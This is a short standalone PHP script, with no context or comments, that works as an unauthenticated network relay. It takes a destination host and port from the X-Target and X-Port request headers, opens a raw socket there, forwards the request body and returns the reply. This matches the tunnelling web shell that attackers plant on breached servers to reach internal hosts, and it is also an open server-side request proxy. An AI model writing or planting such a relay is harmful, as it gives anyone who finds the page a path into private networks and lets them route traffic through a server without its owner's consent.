<?php
$hdr = getallheaders();
$host = $hdr['X-Target'];
$port = (int)$hdr['X-Port'];
$sock = fsockopen($host, $port, $errno, $errstr, 5);
stream_set_blocking($sock, false);
$body = file_get_contents('php://input');
fwrite($sock, $body);
echo fread($sock, 65536);
fclose($sock);
